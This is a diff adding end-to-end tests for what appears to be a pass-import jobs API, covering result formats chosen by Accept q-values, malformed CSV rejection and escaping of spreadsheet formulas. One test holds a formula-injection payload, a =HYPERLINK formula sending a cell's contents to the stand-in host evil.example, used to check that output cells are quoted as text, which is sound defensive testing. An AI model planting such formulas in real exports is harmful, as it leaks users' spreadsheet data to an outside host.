@@ -194,6 +194,41 @@ def test_a_csv_import_with_metadata_columns_and_csv_results(stack: Stack) -> Non
         assert client.get(first["download_url"]).status_code == 200
 
 
+def test_results_answer_the_type_the_accept_header_prefers(stack: Stack) -> None:
+    """A row the issuer's checks refuse (a date without its time zone) fails with its number
+    (tests/e2e/test_passes_batch.py shows it takes no unit); the results come as CSV or NDJSON
+    by the Accept header's q-values."""
+    account = stack.new_account()
+    rows = [{"metadata": {"expiration_date": "2031-12-31"}}, {"holder_name": "Ann"}]
+    with stack.client(headers=account.headers()) as client:
+        template = create_template(client, TEMPLATE_BODY)
+        body = {"type": "import_passes", "template_id": template["id"], "rows": rows}
+        job = ok(client.post("/v1/jobs", json=body), 202)
+        done = _finished(client, job["id"])
+        assert (done["succeeded"], done["failed"]) == (1, 1)
+        [error] = done["errors"]
+        assert (error["row"], error["error"]["param"]) == (1, "metadata.expiration_date")
+        results = client.get(f"/v1/jobs/{job['id']}/results", headers={"Accept": "text/csv"})
+        assert results.headers["content-type"].startswith("text/csv")
+        # q-values decide: NDJSON is preferred here, and CSV refused outright there.
+        for accept in ("text/csv;q=0.5, application/x-ndjson", "text/csv;q=0, */*"):
+            ndjson = client.get(f"/v1/jobs/{job['id']}/results", headers={"Accept": accept})
+            assert ndjson.headers["content-type"].startswith("application/x-ndjson"), accept
+
+
+def test_a_results_cell_a_spreadsheet_would_run_is_quoted_as_text(stack: Stack) -> None:
+    account = stack.new_account()
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Fix")'
+    with stack.client(headers=account.headers()) as client:
+        template = create_template(client, TEMPLATE_BODY)
+        body = {"type": "import_passes", "template_id": template["id"], "rows": [{formula: "x"}]}
+        job = ok(client.post("/v1/jobs", json=body), 202)
+        _finished(client, job["id"])
+        results = client.get(f"/v1/jobs/{job['id']}/results", headers={"Accept": "text/csv"})
+    [line] = list(csv.DictReader(io.StringIO(results.text)))
+    assert line["error_param"] == "'" + formula
+
+
 def test_bad_imports_are_refused_before_any_job_exists(stack: Stack) -> None:
     account, other = stack.new_account(), stack.new_account()
     with (
@@ -244,6 +279,12 @@ def test_bad_imports_are_refused_before_any_job_exists(stack: Stack) -> None:
         assert_error(twice, 400, "invalid_request_error", "header", "csv_header_invalid")
         assert_error(csv_import(template["id"], b""), 400, "invalid_request_error", "header")
         assert_error(csv_import(template["id"], b"seat\n"), 400, "invalid_request_error", "rows")
+        # A quote left open would swallow the rest of the file into one cell.
+        open_quote = csv_import(template["id"], b'seat,gate\n"A1,B\nA2,C\nA3,D\n')
+        assert_error(open_quote, 400, "invalid_request_error", None, "csv_invalid")
+        for column in (b"metadata.a.b", b"metadata.$x", b"metadata." + b"k" * 41):
+            bad_key = csv_import(template["id"], b"seat," + column + b"\nA1,x\n")
+            assert_error(bad_key, 400, "invalid_request_error", "header", "csv_header_invalid")
         assert_error(
             csv_import(template["id"], b"\xff\xfe"),
             400,
